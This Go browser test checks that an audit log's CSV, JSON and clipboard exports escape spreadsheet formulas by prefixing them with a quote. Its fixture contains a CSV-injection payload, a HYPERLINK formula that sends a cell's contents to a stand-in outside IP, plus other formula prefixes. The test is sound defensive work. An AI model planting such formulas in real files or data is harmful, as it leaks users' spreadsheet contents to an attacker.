//go:build linux

package uitest

import (
	"encoding/csv"
	"encoding/json"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/cdproto/browser"
)

// saved clicks a control, and returns the file that the browser then saves under a name.
func (b *tab) saved(control, name string) string {
	b.t.Helper()
	folder := b.t.TempDir()
	b.run(browser.SetDownloadBehavior(browser.SetDownloadBehaviorBehaviorAllow).WithDownloadPath(folder))
	b.click(control)
	for end := time.Now().Add(patience); time.Now().Before(end); <-time.After(20 * time.Millisecond) {
		if text, err := os.ReadFile(filepath.Join(folder, name)); err == nil && len(text) > 0 {
			return string(text)
		}
	}
	b.t.Fatalf("%q saves no file %s", control, name)
	return ""
}

// The audit log is saved as it is filtered. Whatever people wrote, a spreadsheet runs no formula.
func TestAuditIsSavedAsItIsFiltered(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	const formula = `=HYPERLINK("http://192.0.2.1/?"&A1)`
	for _, why := range []string{formula, "+1", "-1", "@SUM(A1)", "harmless, \"quoted\""} {
		w.do(http.MethodPost, "/v1/reset?comment="+strings.NewReplacer("+", "%2B", "&", "%26", "?", "%3F", " ", "%20", `"`, "%22").Replace(why), `{"key":"sk_live_0","rule":"orders"}`)
	}
	b := newTab(t, w.pages()+"#/audit?what=reset", desk)
	b.signIn(viewer)
	b.sees("harmless")
	b.lacks("the test prepares")
	rows, err := csv.NewReader(strings.NewReader(b.saved("Export CSV", "stint-audit.csv"))).ReadAll()
	if err != nil || len(rows) != 6 || rows[5][6] != "'"+formula || rows[4][6] != "'+1" || rows[3][6] != "'-1" || rows[2][6] != "'@SUM(A1)" || rows[1][6] != `harmless, "quoted"` {
		t.Errorf("%q, %v", rows, err)
	}
	var body struct{ Entries []struct{ What, Why string } }
	if err := json.Unmarshal([]byte(b.saved("Export JSON", "stint-audit.json")), &body); err != nil || len(body.Entries) != 5 || body.Entries[4].Why != formula {
		t.Errorf("%+v, %v", body, err)
	}
	for _, permission := range []string{"clipboard-read", "clipboard-write"} {
		b.run(browser.SetPermission(&browser.PermissionDescriptor{Name: permission}, browser.PermissionSettingGranted))
	}
	b.fill("Filter: Changes", "HYPERLINK")
	b.sees("1 of 5")
	b.click("Copy")
	b.sees("Copied")
	copied, _ := b.eval("navigator.clipboard.readText()").(string)
	if lines := strings.Split(copied, "\n"); len(lines) != 2 || !strings.HasPrefix(lines[0], "Time\tWho\tWhat") || !strings.Contains(lines[1], "\t'"+formula+"\t") {
		t.Errorf("%q", copied)
	}
}
